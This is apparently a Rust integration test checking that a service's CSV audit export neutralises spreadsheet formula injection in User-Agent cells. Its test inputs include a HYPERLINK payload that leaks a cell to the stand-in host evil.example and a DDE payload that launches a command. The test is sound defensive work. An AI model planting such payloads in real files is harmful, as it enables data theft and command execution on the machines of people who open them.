//! CSV audit export against spreadsheet formula injection (SPEC §13): a cell an attacker
//! controls (here the `User-Agent`) that starts with `=`, `+`, `-`, `@`, tab or CR arrives
//! prefixed with `'`, so a spreadsheet shows it as text instead of evaluating it.

use crate::both_stores;
use crate::common::{StoreKind, TestApp};
use reqwest::StatusCode;
use serde_json::json;

both_stores!(csv_export_keeps_formula_cells_as_text);

/// Splits CSV text into rows of unquoted cells (RFC 4180: quoted cells may hold `,`, `""`,
/// CR and LF).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

async fn csv_export_keeps_formula_cells_as_text(kind: StoreKind) {
    let app = TestApp::spawn(kind).await;
    let agents = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "=cmd|' /C calc'!A0",
        "curl/8.5 (plain)",
    ];
    for (i, ua) in agents.iter().enumerate() {
        let res = app
            .client
            .put(app.url(&format!("/v1/secrets/csv/s{i}")))
            .bearer_auth(&app.root_token)
            .header("user-agent", *ua)
            .json(&json!({"data": {"k": "v"}}))
            .send()
            .await
            .expect("request sent");
        assert_eq!(res.status(), StatusCode::CREATED, "{ua}");
    }

    let res = app
        .client
        .post(app.url("/v1/audit/export"))
        .bearer_auth(&app.root_token)
        .json(&json!({"format": "csv", "filters": {"action": ["write"]}}))
        .send()
        .await
        .expect("request sent");
    assert_eq!(res.status(), StatusCode::OK);
    let text = res.text().await.expect("body");
    let rows = parse_csv(&text);
    let col = |name: &str| {
        rows[0]
            .iter()
            .position(|c| c == name)
            .unwrap_or_else(|| panic!("no {name} column: {:?}", rows[0]))
    };
    let (path_col, ua_col) = (col("secret_path"), col("user_agent"));
    assert_eq!(rows.len(), 1 + agents.len(), "{text}");
    for (i, ua) in agents.iter().enumerate() {
        let row = rows[1..]
            .iter()
            .find(|r| r[path_col] == format!("csv/s{i}"))
            .unwrap_or_else(|| panic!("no row for csv/s{i}: {text}"));
        let expected = if i == agents.len() - 1 {
            ua.to_string()
        } else {
            format!("'{ua}")
        };
        assert_eq!(row[ua_col], expected, "{text}");
    }
    // No cell of the file starts a formula.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {text}"
            );
        }
    }
}
